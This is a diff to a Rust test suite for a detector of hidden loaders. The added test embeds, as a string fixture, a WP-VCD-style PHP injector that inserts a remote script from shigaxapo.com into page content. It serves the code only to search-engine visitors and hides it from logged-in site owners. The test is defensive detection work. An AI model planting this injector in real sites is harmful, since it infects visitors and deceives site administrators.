@@ -449,3 +449,18 @@ fn code_pushed_off_screen_by_spaces_is_found() {
     let indented = format!("{}\n{}return x;\n", library(), " ".repeat(48));
     assert_eq!(found(&indented), None);
 }
+
+#[test]
+fn an_ad_loader_shown_only_to_search_visitors_is_injected() {
+    // fresh141's WP-VCD `wp-tmp.php`, in short.
+    let src = "ini_set('display_errors', 0);\nfunction slider_option($content){ $con2 = '\n<script>\n(function(__htas){\nvar d = document,\n\
+               s = d.createElement(\\'script\\'),\nl = d.scripts[d.scripts.length - 1];\n\
+               s.src = \"\\/\\/shigaxapo.com\\/c\\/D.9D6\\/bA2D5hlJ\";\nl.parentNode.insertBefore(s, l);\n})({})\n</script>\n'; return $content.$con2; }\n\
+               $ref = $_SERVER['HTTP_REFERER']; $SE = array('google.','/search?','yahoo.','yandex','bing.');\n\
+               if (!isset($_COOKIE['wordpress_cf_adm_use_adm']) && !is_user_logged_in()) { add_filter('the_content','slider_option'); }";
+    assert!(loader_hidden_from_owner(src.as_bytes()).is_some());
+    // Analytics skipped for the site's users: loaded for every other visitor.
+    let analytics = src
+        .replace("$ref = $_SERVER['HTTP_REFERER']; $SE = array('google.','/search?','yahoo.','yandex','bing.');\n", "");
+    assert!(loader_hidden_from_owner(analytics.as_bytes()).is_none());
+}
